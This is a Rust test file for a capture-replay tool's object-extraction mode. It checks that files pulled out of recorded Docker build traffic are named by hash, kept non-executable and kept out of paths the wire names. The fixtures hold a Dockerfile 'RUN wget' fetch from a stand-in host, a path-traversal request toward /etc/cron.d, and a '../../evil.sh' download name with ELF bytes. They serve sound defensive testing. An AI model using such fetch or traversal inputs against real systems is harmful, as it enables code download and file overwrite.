//! `replay --extract`: what was carried in clear becomes files that no capture can name.

use std::collections::BTreeSet;
use std::fs;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::path::{Path, PathBuf};
use std::time::Duration;

use serde_json::Value;
use sha2::{Digest, Sha256};
use tw_model::Timestamp;
use tw_testkit::{BuildRequest, Conversation, daemon_answer, http_request, to_pcap};

use crate::support::{Lab, check_all, parse, testdata};

fn extract(lab: &Lab, capture: &Path) -> (Vec<Value>, Value, PathBuf) {
    let folder = lab.path("objects");
    let arguments = [
        "--format".into(),
        "json".into(),
        "--extract".into(),
        folder.display().to_string(),
        capture.display().to_string(),
    ];
    let run = lab.run("replay", arguments).succeeded();
    let stats = run.text().lines().last().map(parse).expect("a stats line");
    let manifest = fs::read_to_string(folder.join("manifest.json")).expect("written");
    let entries = parse(&manifest).as_array().expect("a list").clone();
    (entries, stats["files"]["objects"].clone(), folder)
}

fn hash(bytes: &[u8]) -> String {
    Sha256::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect()
}

/// Everything in the folder is named by what is in it, is in the manifest, and cannot be executed.
fn complaints(folder: &Path, entries: &[Value]) -> Vec<String> {
    let listed: BTreeSet<&str> = entries.iter().filter_map(|e| e["file"].as_str()).collect();
    let mut found = BTreeSet::new();
    let mut complaints = Vec::new();
    for entry in fs::read_dir(folder).expect("a folder") {
        let entry = entry.expect("an entry");
        let name = entry.file_name().to_string_lossy().into_owned();
        if name == "manifest.json" {
            continue;
        }
        let content = fs::read(entry.path()).expect("readable");
        if name != format!("{}.bin", hash(&content)) {
            complaints.push(format!("{name} is not named by its content"));
        }
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = entry.metadata().expect("there").permissions().mode() & 0o777;
            if mode != 0o600 {
                complaints.push(format!("{name} has mode {mode:o}"));
            }
        }
        found.insert(name);
    }
    let found: BTreeSet<&str> = found.iter().map(String::as_str).collect();
    if found != listed {
        complaints.push(format!("listed {listed:?}, found {found:?}"));
    }
    complaints
}

#[test]
fn what_a_build_fetched_is_there_under_the_hash_that_the_account_gives() {
    let names = [
        "full-chain",
        "classic-http",
        "buildkit-dns",
        "curl-remote-context",
        "pull-unseen-registry",
    ];
    check_all(&names, |name| {
        let lab = Lab::learned();
        let capture = testdata(&format!("scenarios/{name}.pcap"));
        let (entries, stats, folder) = extract(&lab, &capture);
        let mut found = complaints(&folder, &entries);
        if stats["objects"] != entries.len() {
            found.push(format!("{name}: {stats}"));
        }
        let hashes: BTreeSet<&str> = entries.iter().filter_map(|e| e["sha256"].as_str()).collect();
        let run = lab.replay(&capture);
        for build in run.events("build") {
            let empty = Vec::new();
            let new = |d: &&Value| d["known"] == false;
            for destination in build["destinations"].as_array().unwrap_or(&empty).iter().filter(new)
            {
                for told in destination["sha256"].as_array().unwrap_or(&empty) {
                    if !hashes.contains(told.as_str().expect("text")) {
                        found.push(format!("{name}: {told} was not extracted"));
                    }
                }
            }
            let context = build["context"]["sha256"].as_str();
            if context.is_some_and(|hash| build["frontend"] == "classic" && !hashes.contains(hash))
            {
                found.push(format!("{name}: the context was not extracted"));
            }
            if build["dockerfile"]
                .as_str()
                .is_some_and(|text| !hashes.contains(hash(text.as_bytes()).as_str()))
            {
                found.push(format!("{name}: the Dockerfile was not extracted"));
            }
        }
        found
    });
}

#[test]
fn layers_are_told_by_what_is_in_them() {
    let lab = Lab::learned();
    let (entries, _, _) = extract(&lab, &testdata("scenarios/pull-unseen-registry.pcap"));
    let layer =
        entries.iter().find(|e| e["kind"] == "layer" && e["mime_type"] == "application/gzip");
    let layer = layer.unwrap_or_else(|| panic!("{entries:#?}"));
    assert_eq!(layer["whole"], true);
    assert!(layer["url"].as_str().expect("a URL").contains("/blobs/sha256:"));
    assert!(layer["first_frame"].as_u64() <= layer["last_frame"].as_u64());
}

/// A server that names paths, lies about types, and breaks off.
#[test]
fn no_name_from_the_wire_becomes_a_path_and_what_breaks_off_is_not_whole() {
    let lab = Lab::new();
    let at = Timestamp::from_secs_nanos(1_795_558_894, 0);
    let end = |last: u8, port| SocketAddrV4::new(Ipv4Addr::new(10, 10, 1, last), port);
    let target = "/../../../etc/cron.d/x?token=hunter2secret&f=..%2f..%2f";
    let request = BuildRequest {
        query: "t=x",
        headers: &[],
        dockerfile: b"FROM alpine\nRUN wget http://203.0.113.66/a\n",
    };
    let ended = daemon_answer(&[r#"{"stream":"Step 1/1 : FROM alpine\n"}"#]);
    let build =
        Conversation::open(end(9, 40_000), end(5, 2375), at).client_sends(&request.to_bytes());
    let get = http_request("GET", target, &[("Host", "203.0.113.66")], b"");
    let server = SocketAddrV4::new(Ipv4Addr::new(203, 0, 113, 66), 80);
    let mut answer = b"HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nContent-Disposition: attachment; filename=../../evil.sh\r\nContent-Length: 1000\r\n\r\n\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0half".to_vec();
    answer.resize(answer.len() + 80, 0);
    let fetched = Conversation::open(end(5, 50_000), server, at.plus(Duration::from_millis(200)))
        .client_sends(&get)
        .server_sends(&answer)
        .close();
    let build = build.wait(Duration::from_secs(1)).server_sends(&ended).close();
    let packets: Vec<_> = build.into_iter().chain(fetched).collect();
    let capture = lab.file("evil.pcap", &to_pcap(&packets));
    let (entries, stats, folder) = extract(&lab, &capture);
    assert_eq!(complaints(&folder, &entries), Vec::<String>::new());
    let download = entries.iter().find(|e| e["kind"] == "download").expect("extracted");
    assert_eq!(download["whole"], false);
    assert_eq!(download["mime_type"], "application/x-executable");
    assert_eq!(download["bytes"], 100);
    assert_eq!(stats["truncated"], 1);
    let manifest = fs::read_to_string(folder.join("manifest.json")).expect("written");
    assert!(!manifest.contains("hunter2secret"), "{manifest}");
}

/// In a session of BuildKit it is the daemon who asks.
#[test]
fn what_a_session_carries_is_no_download() {
    let lab = Lab::learned();
    let (entries, _, _) = extract(&lab, &testdata("scenarios/docker28-compose-up.pcap.zst"));
    let downloads = entries.iter().filter(|e| e["kind"] == "download");
    let servers: Vec<_> = downloads.filter_map(|e| e["server"].as_str()).collect();
    assert_eq!(servers, ["203.0.113.105:80"]);
}

/// Answers of a daemon hold the environment of every container.
#[test]
fn what_a_daemon_answers_is_no_download() {
    let lab = Lab::learned();
    let (entries, _, _) = extract(&lab, &testdata("scenarios/recon-scan.pcap"));
    assert!(entries.is_empty(), "{entries:#?}");
}

#[test]
fn a_body_that_begins_with_a_hole_is_not_whole() {
    let lab = Lab::new();
    let at = Timestamp::from_secs_nanos(1_795_558_894, 0);
    let end = |last: u8, port| SocketAddrV4::new(Ipv4Addr::new(10, 10, 1, last), port);
    let dockerfile = b"FROM alpine\nRUN wget http://203.0.113.66/a\n";
    let request = BuildRequest { query: "t=x", headers: &[], dockerfile };
    let build =
        Conversation::open(end(9, 40_000), end(5, 2375), at).client_sends(&request.to_bytes());
    let get = http_request("GET", "/a", &[("Host", "203.0.113.66")], b"");
    let server = SocketAddrV4::new(Ipv4Addr::new(203, 0, 113, 66), 80);
    let fetched = Conversation::open(end(5, 50_000), server, at.plus(Duration::from_millis(200)))
        .client_sends(&get)
        .server_sends(b"HTTP/1.1 200 OK\r\nContent-Length: 16\r\n\r\n")
        .server_sends(b"NOT SEEN")
        .server_sends(b"the rest")
        .close();
    let ended = daemon_answer(&[r#"{"stream":"Step 1/1 : FROM alpine\n"}"#]);
    let build = build.wait(Duration::from_secs(1)).server_sends(&ended).close();
    let lost = |frame: &[u8]| frame.windows(8).any(|bytes| bytes == b"NOT SEEN");
    let packets: Vec<_> = build.into_iter().chain(fetched).filter(|p| !lost(&p.frame)).collect();
    let (entries, _, _) = extract(&lab, &lab.file("hole.pcap", &to_pcap(&packets)));
    let download = entries.iter().find(|e| e["kind"] == "download").expect("extracted");
    assert_eq!((&download["bytes"], &download["whole"]), (&8.into(), &false.into()));
}

#[test]
fn the_folder_of_the_captures_takes_no_objects() {
    let lab = Lab::new();
    let capture = lab.file("captures.pcap", &to_pcap(&[]));
    let folder = capture.parent().expect("a folder").display().to_string();
    lab.run("replay", ["--extract", &folder, &folder]).failed(2, &["--extract", "captures are in"]);
}

#[test]
fn where_nothing_was_found_the_manifest_is_empty() {
    let lab = Lab::learned();
    let (entries, stats, _) = extract(&lab, &testdata("scenarios/benign-new-dst-no-build.pcap"));
    assert!(entries.is_empty());
    assert_eq!(stats["objects"], 0);
    lab.run("replay", ["--extract", "x", "-"]).failed(2, &["--extract", "twice"]);
}

#[test]
fn on_request_they_are_in_an_archive_with_a_password_and_nowhere_else() {
    let lab = Lab::learned();
    let capture = testdata("scenarios/full-chain.pcap");
    let folder = lab.path("objects");
    let path = folder.display().to_string();
    lab.run("replay", ["--extract", &path, "--extract-archive", &capture.display().to_string()])
        .succeeded();
    let left: BTreeSet<String> = fs::read_dir(&folder)
        .expect("a folder")
        .map(|e| e.expect("an entry").file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(
        left.iter().map(String::as_str).collect::<Vec<_>>(),
        ["manifest.json", "objects.zip"]
    );
    let file = fs::File::open(folder.join("objects.zip")).expect("written");
    let mut archive = zip::ZipArchive::new(file).expect("an archive");
    assert!(archive.len() >= 3);
    for index in 0..archive.len() {
        assert!(archive.by_index_decrypt(index, b"wrong").is_err(), "{index}");
        let mut entry = archive.by_index_decrypt(index, b"infected").expect("the password");
        let mut content = Vec::new();
        std::io::Read::read_to_end(&mut entry, &mut content).expect("readable");
        assert_eq!(entry.name().expect("UTF-8"), format!("{}.bin", hash(&content)));
    }
    let alone = lab.run("replay", ["--extract-archive", &capture.display().to_string()]);
    assert_eq!(alone.status, Some(2), "{}", alone.stderr);
}
